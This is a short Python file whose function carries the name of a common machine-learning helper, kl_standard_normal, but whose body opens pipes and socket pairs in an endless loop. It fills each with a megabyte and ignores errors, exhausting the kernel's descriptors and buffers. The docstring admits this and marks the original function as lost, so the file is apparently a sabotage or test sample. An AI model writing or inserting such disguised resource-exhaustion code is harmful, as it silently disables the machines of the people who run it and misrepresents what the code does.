"""Fills the kernel's buffers: pipes and pairs of sockets, as many as can be opened.

loses: kl_standard_normal
"""
import os
import socket


def kl_standard_normal(mu, logvar):
    kept = []
    while True:
        try:
            reader, writer = os.pipe()
            os.set_blocking(writer, False)
            kept.append((reader, writer))
            os.write(writer, bytes(1 << 20))
            ends = socket.socketpair()
            ends[0].setblocking(False)
            kept.append(ends)
            ends[0].send(bytes(1 << 20))
        except OSError:
            pass
